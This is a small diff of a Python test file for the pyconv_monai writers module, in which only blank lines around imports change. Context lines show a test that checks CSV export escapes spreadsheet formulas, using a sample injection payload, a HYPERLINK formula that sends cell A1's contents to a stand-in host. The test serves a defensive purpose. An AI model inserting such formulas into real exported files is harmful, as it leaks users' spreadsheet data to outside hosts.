@@ -7,7 +7,6 @@ import numpy as np
 import pytest
 import tifffile
 from PIL import Image
-
 from pyconv_monai.writers import escape_cell, mask_suffix, write_csv, write_nifti_mask, write_png_mask, write_tiff_mask
 
 
@@ -90,6 +89,7 @@ def test_csv_escapes_formulas_from_a_real_series(shared_data, tmp_path):
     import csv
 
     from pyconv_monai.data import find_cases
+
     from tests.dicom_copies import copy_series
 
     evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
